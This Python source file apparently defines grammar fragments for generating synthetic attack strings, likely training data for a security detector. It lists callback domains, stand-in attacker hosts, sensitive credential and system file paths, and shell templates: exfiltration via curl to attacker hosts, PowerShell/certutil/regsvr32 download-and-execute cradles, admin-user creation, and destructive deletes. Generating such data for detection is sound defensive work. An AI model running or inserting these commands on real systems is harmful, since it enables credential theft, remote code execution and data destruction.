"""Fragments that grammars of many classes share: names, numbers, hosts, files, commands."""

from __future__ import annotations

from random import Random

from securitai.train.corpora.attacks.grammar import Grammar

_LOWER = "abcdefghijklmnopqrstuvwxyz"
_ALNUM = _LOWER + "0123456789"
_LETTERS = _LOWER + _LOWER.upper()
_CONSONANTS, _VOWELS = "bcdfghjklmnprstvz", "aeiou"


def draw(rng: Random, alphabet: str, low: int, high: int) -> str:
    """A string of ``low`` to ``high`` characters of ``alphabet``."""
    count = low + int(rng.random() * (high - low + 1))
    size = len(alphabet)
    return "".join([alphabet[int(rng.random() * size)] for _ in range(count)])


def number(rng: Random) -> str:
    """An integer whose length varies: ids, marks, operands of a comparison."""
    return str(int(10 ** (rng.random() * 4.6)))


def ipv4(rng: Random) -> str:
    """A public-looking IPv4 address."""
    return ".".join([str(1 + int(rng.random() * 254)) for _ in range(4)])


def private_ip(rng: Random) -> str:
    """An address of a private, loopback or link-local network."""
    form = int(rng.random() * 5)
    tail = f"{int(rng.random() * 256)}.{1 + int(rng.random() * 254)}"
    if form == 0:
        return f"192.168.{tail}"
    if form == 1:
        return f"10.{int(rng.random() * 256)}.{tail}"
    if form == 2:
        return f"172.{16 + int(rng.random() * 16)}.{tail}"
    return "127.0.0.1" if form == 3 else f"127.{int(rng.random() * 256)}.{tail}"


def syllables(rng: Random) -> str:
    """A pronounceable made-up word, as domains and tables have."""
    return "".join(
        [
            _CONSONANTS[int(rng.random() * 17)] + _VOWELS[int(rng.random() * 5)]
            for _ in range(2 + int(rng.random() * 3))
        ]
    )


def base64_run(rng: Random) -> str:
    """A run of base64 that means nothing, of varying length."""
    body = draw(rng, _LETTERS + "0123456789+/", 16, 90)
    return body[: len(body) // 4 * 4] + ("", "=", "==")[int(rng.random() * 3)]


def hex_text(rng: Random) -> str:
    """A printable word written as a hex number, as MySQL and shells take it."""
    return draw(rng, _LETTERS, 3, 10).encode().hex()


FUNCTIONS = {
    "n": number,
    "ip": ipv4,
    "ipriv": private_ip,
    "syl": syllables,
    "rnd": lambda rng: draw(rng, _ALNUM, 4, 14),
    "rnd32": lambda rng: draw(rng, _ALNUM, 18, 33),
    "az": lambda rng: draw(rng, _LOWER, 1, 8),
    "az4": lambda rng: draw(rng, _LETTERS, 4, 4),
    "Az": lambda rng: draw(rng, _LETTERS, 5, 12),
    "c": lambda rng: draw(rng, _LOWER, 1, 1),
    "AZ6": lambda rng: draw(rng, _LOWER.upper(), 6, 6),
    "hexrun": lambda rng: draw(rng, "0123456789abcdef", 6, 40),
    "hextext": hex_text,
    "b64": base64_run,
}

PARTS = Grammar(
    r"""
e = ¦
nl:
  ‹lf›
d1 = 1¦2¦3¦4¦5¦6¦7¦8¦9
big:
  ‹#10000-99999›
  ‹#1000000-999999999›
word = shoes¦red¦phone¦order¦news¦hello¦search¦test¦blue shirt¦laptop¦books¦summer¦apple¦home¦garden¦music¦travel¦london¦paris¦report¦invoice¦pen¦coffee¦summary¦user¦item¦foo¦bar¦abc¦asdf¦qwe¦xyz¦aaa¦car¦data¦title¦main¦query
user = admin¦root¦user¦test¦guest¦administrator¦john¦alice¦bob¦demo¦manager¦operator¦support¦sa¦john.smith¦maria¦webmaster¦info
mail:
  ‹user›@‹syl›.‹tld›
  ‹user›@example.com
  ‹user›‹#1-99›@gmail.com
prefix:
  6×‹#1-9›
  4×‹n›
  3×‹word›
  2×‹user›
  -‹#1-9999›
  ‹mail›
  ‹syl›
  ‹rnd›
  ‹az4›
  ‹#1-999›.‹#0-99›
  ‹word› ‹word›
  ‹word›-‹n›
  /‹word›/‹word›
  http://‹site›/‹word›
  20‹#10-29›-0‹d1›-‹#10-28›
  ‹#100-999›-‹#100-999›-‹#1000-9999›
pre:
  2×‹e›
  3×‹prefix›
tld = com¦net¦org¦io¦ru¦cn¦info¦xyz¦top¦site¦dev¦me¦co¦eu¦de¦fr¦in¦br¦su¦to¦cc¦pw
site:
  www.‹syl›.‹tld›
  ‹syl›.‹tld›
  ‹syl›-‹word1›.‹tld›
  ‹word1›.‹syl›.‹tld›
  example.‹com¦org¦net›
word1 = shop¦cdn¦api¦mail¦app¦portal¦dev¦static¦img¦web¦store¦cloud¦data¦blog¦lab
oob = oast.fun¦oast.me¦oast.pro¦oast.site¦oast.live¦oast.online¦interact.sh¦interactsh.com¦burpcollaborator.net¦oastify.com¦dnslog.cn¦ceye.io¦requestbin.net¦webhook.site¦pipedream.net¦ngrok.io¦ngrok-free.app¦canarytokens.com¦xss.ht¦bxss.me¦dnslog.pw¦eyes.sh¦dns.outbound.watchtowr.com¦requestrepo.com¦pingb.in¦beeceptor.com¦r87.me¦tupk.org¦callback.red¦trycloudflare.com¦serveo.net
evil = evil¦attacker¦hacker¦malicious¦badguy¦x¦pwn¦exploit¦callback¦c2¦collab¦phish¦evilsite¦attacker-server¦rogue
host:
  4×‹rnd›.‹oob›
  2×‹rnd32›.‹oob›
  3×‹ip›
  ‹ipriv›
  2×‹evil›.‹tld›
  ‹evil›-‹syl›.‹tld›
  2×‹site›
  ‹evil›.example.‹com¦org›
port = 80¦8080¦443¦8443¦4444¦1337¦9001¦8000¦53¦1234¦5555¦6666¦9999¦31337¦3333¦7777¦1389¦1099¦8888¦81
hostport:
  3×‹host›
  ‹host›:‹port›
  ‹host›:‹#1024-65535›
url:
  4×http://‹hostport›
  3×http://‹hostport›/‹path1›
  https://‹host›/‹path1›
  https://‹host›
path1 = x¦a¦1¦s.sh¦shell.txt¦p¦test¦i.txt¦c¦payload¦poc.txt¦r57.txt¦cmd.txt¦x.js¦log?c=1¦id.txt¦up.php¦b.png¦rce¦ssrf¦exfil
shfile = a.sh¦bins.sh¦x¦i.sh¦run.sh¦8UsA.sh¦mips¦arm7¦x86_64¦ohsitsvegawellrip.sh¦jaws.sh¦wget.sh¦d¦setup.sh¦payload.elf¦miner.sh¦bot¦.x¦xmrig.tar.gz¦loader
u_secret = /etc/passwd¦/etc/shadow¦/etc/hosts¦/etc/group¦/etc/issue¦/etc/hostname¦/etc/ssh/sshd_config¦/etc/mysql/my.cnf¦/etc/nginx/nginx.conf¦/etc/apache2/apache2.conf¦/etc/httpd/conf/httpd.conf¦/etc/php.ini¦/etc/crontab¦/etc/fstab¦/etc/resolv.conf¦/etc/motd¦/etc/sudoers¦/etc/profile¦/etc/master.passwd¦/etc/security/passwd¦/etc/os-release¦/etc/environment¦/root/.bash_history¦/root/.ssh/id_rsa¦/root/.ssh/authorized_keys¦/home/ubuntu/.ssh/id_rsa¦/root/.aws/credentials¦/home/ec2-user/.aws/credentials¦/proc/self/environ¦/proc/self/cmdline¦/proc/self/status¦/proc/version¦/proc/self/fd/0¦/proc/1/environ¦/proc/net/tcp¦/proc/net/arp¦/proc/mounts¦/var/log/auth.log¦/var/log/apache2/access.log¦/var/log/apache2/error.log¦/var/log/httpd/access_log¦/var/log/nginx/access.log¦/var/log/nginx/error.log¦/var/log/syslog¦/var/log/messages¦/var/log/mail.log¦/var/log/vsftpd.log¦/var/www/html/wp-config.php¦/var/www/html/index.php¦/var/www/html/.env¦/var/www/html/configuration.php¦/usr/local/apache2/conf/httpd.conf¦/usr/local/etc/php.ini¦/opt/tomcat/conf/tomcat-users.xml¦/usr/local/tomcat/conf/server.xml¦/var/lib/mlocate/mlocate.db¦/var/run/secrets/kubernetes.io/serviceaccount/token¦/etc/kubernetes/admin.conf¦/.dockerenv¦/etc/samba/smb.conf¦/etc/redis/redis.conf¦/etc/passwd-¦/etc/shadow-¦/etc/gshadow¦/etc/vsftpd.conf¦/etc/my.cnf¦/etc/exports¦/etc/inetd.conf¦/etc/lsb-release
u_file:
  5×/etc/passwd
  2×/etc/shadow
  6×‹u_secret›
  /home/‹user›/.‹bash_history¦ssh/id_rsa¦ssh/authorized_keys¦bashrc¦netrc¦git-credentials¦kube/config¦aws/credentials¦mysql_history¦pgpass›
  /proc/‹#1-4000›/‹environ¦cmdline¦maps¦fd/3¦root/etc/passwd¦cwd/.env¦status›
  /var/www/‹syl›/‹.env¦config.php¦wp-config.php¦config/database.yml¦.git/config¦settings.py¦.htpasswd›
  /var/log/‹syl›/‹access.log¦error.log¦access_log›
w_file = boot.ini¦windows/win.ini¦windows/system32/drivers/etc/hosts¦windows/system.ini¦winnt/win.ini¦windows/repair/sam¦windows/system32/config/sam¦windows/system32/config/SYSTEM¦windows/php.ini¦inetpub/wwwroot/web.config¦inetpub/logs/logfiles¦Users/Administrator/NTUser.dat¦windows/debug/NetSetup.log¦windows/iis.log¦xampp/apache/conf/httpd.conf¦xampp/apache/logs/access.log¦xampp/phpMyAdmin/config.inc.php¦apache/logs/error.log¦windows/system32/inetsrv/config/applicationHost.config¦windows/Panther/Unattend.xml¦ProgramData/MySQL/my.ini¦Program Files/Apache Group/Apache2/conf/httpd.conf¦pagefile.sys¦Users/Administrator/Desktop/passwords.txt¦windows/System32/license.rtf¦autoexec.bat¦WINDOWS/system32/eula.txt
ucmd00 = id¦whoami¦uname -a¦ls¦ls -la¦pwd¦ps aux¦ps -ef¦ifconfig¦ip a¦netstat -an¦w¦who¦hostname¦env¦cat /etc/passwd¦cat /etc/issue¦uptime¦df -h¦last¦printenv¦set¦ls -al /¦ls /tmp¦ss -tlnp¦crontab -l¦sudo -l¦history¦groups¦lsb_release -a¦arp -a¦mount¦dmesg¦lscpu¦free -m¦which python¦which wget¦nproc¦uname
ucmd0:
  3×‹ucmd00›
  2×‹ucmd1›
ucmd1:
  2×cat ‹u_file›
  ls ‹-l¦-la¦-R¦-alh› ‹/¦/tmp¦/var/www¦/home¦/etc¦/root¦..›
  sleep ‹#1-30›
  ping -c ‹#1-30› ‹host›
  2×nslookup ‹host›
  2×curl ‹url›
  wget ‹url›
  curl ‹host›/‹rnd›
  echo ‹rnd›
  touch /tmp/‹rnd›
  id>/tmp/‹rnd›
  nc ‹ip› ‹port›
  ‹head¦tail¦tac¦nl¦base64› ‹u_file›
  expr ‹#10-99999› + ‹#10-99999›
  dig ‹host›
  rm -f /tmp/‹rnd›
ucmd:
  5×‹ucmd0›
  cat ‹u_file›
  ‹head¦tail¦more¦less¦nl¦tac¦strings¦od -c¦xxd¦rev¦base64¦grep root¦sort¦cut -d: -f1› ‹u_file›
  ls ‹-l¦-la¦-R¦-alh¦-1¦› ‹/¦/tmp¦/var/www¦/home¦/etc¦/root¦../¦.›
  sleep ‹#1-30›
  ping -c ‹#1-30› ‹host›
  ping -‹n¦i¦c› ‹#1-30› 127.0.0.1
  nslookup ‹host›
  dig ‹host›
  curl ‹url›
  wget ‹url›
  curl ‹-s¦-k¦-fsSL¦-o /tmp/x¦-sS› ‹url›
  wget ‹-q¦-O-¦-O /tmp/a¦-qO-› ‹url›
  curl http://‹host›/`‹whoami¦id¦hostname›`
  curl ‹host› -d "$(‹id¦env¦cat /etc/passwd›)"
  echo ‹rnd›
  echo ‹rnd›|md5sum
  expr ‹#10-99999› ‹+¦\*¦-› ‹#10-99999›
  touch /tmp/‹rnd›
  rm -rf ‹/¦*¦/tmp/x¦/var/www/html›
  find / -name ‹*.conf¦id_rsa¦wp-config.php¦flag*¦.env¦*.pem›
  find / -perm -‹4000¦u=s› -type f
  id>‹/tmp/¦/var/www/html/¦./›‹rnd›.txt
  nc ‹host› ‹port›
  kill -9 ‹#1-9999›
  shutdown -h now
  reboot
  chmod 777 /tmp/‹rnd›
  useradd ‹syl›
  passwd ‹user›
  getent hosts ‹host›
wcmd00 = whoami¦ver¦dir¦ipconfig¦ipconfig /all¦net user¦systeminfo¦hostname¦tasklist¦set¦dir c:\¦net view¦netstat -ano¦type c:\boot.ini¦type C:\Windows\win.ini¦net localgroup administrators¦whoami /priv¦arp -a¦route print¦query user¦wmic os get caption¦quser¦cmdkey /list¦schtasks /query¦wmic process list
wcmd0:
  3×‹wcmd00›
  ping ‹host›
  nslookup ‹host›
  type ‹c¦C›:\‹w_file›
  dir c:\‹az›
  echo ‹rnd›
  ping -n ‹#1-30› 127.0.0.1
  net user ‹syl›
  curl ‹url›
wcmd:
  5×‹wcmd0›
  type ‹c¦C›:\‹w_file›
  dir ‹c:\¦c:\users¦c:\inetpub¦C:\Windows¦/s /b c:\*.config›
  ping -n ‹#1-30› ‹127.0.0.1¦localhost›
  ping ‹host›
  nslookup ‹host›
  net user ‹syl› ‹Az›‹#1-99› /add
  net localgroup administrators ‹syl› /add
  certutil -urlcache -split -f ‹url› ‹%temp%\¦c:\windows\temp\¦›‹rnd›.exe
  bitsadmin /transfer ‹az› ‹url› c:\windows\temp\‹rnd›.exe
  powershell -‹c¦nop -c¦w hidden -c› "‹iex¦IEX›(New-Object Net.WebClient).DownloadString('‹url›')"
  powershell -‹enc¦e¦EncodedCommand› ‹b64›
  powershell ‹Get-Process¦whoami¦Start-Sleep 5¦Invoke-WebRequest›
  mshta ‹url›
  rundll32 ‹az›.dll,EntryPoint
  regsvr32 /s /n /u /i:‹url› scrobj.dll
  reg query HKLM\‹SAM¦SYSTEM¦SOFTWARE›
  timeout ‹/t ¦›‹#1-30›
  copy ‹az›.txt c:\inetpub\wwwroot\‹rnd›.aspx
  echo ‹rnd› > c:\‹rnd›.txt
  start calc
  calc.exe
  notepad.exe
  shutdown /r /t 0
  del /q /s *.*
  tracert ‹host›
  ftp -s:‹az›.txt ‹host›
cmd:
  4×‹ucmd›
  ‹wcmd›
""",
    functions={
        **FUNCTIONS,
        "lf": lambda rng: "\n",
        "crlf": lambda rng: "\r\n",
        "sp": lambda rng: " ",
        "tab": lambda rng: "\t",
        "dq3": lambda rng: '"""',
        "nul": lambda rng: "\0",
        "lsaquo": lambda rng: "\u2039",
        "rsaquo": lambda rng: "\u203a",
        "brokenbar": lambda rng: "\u00a6",
    },
)
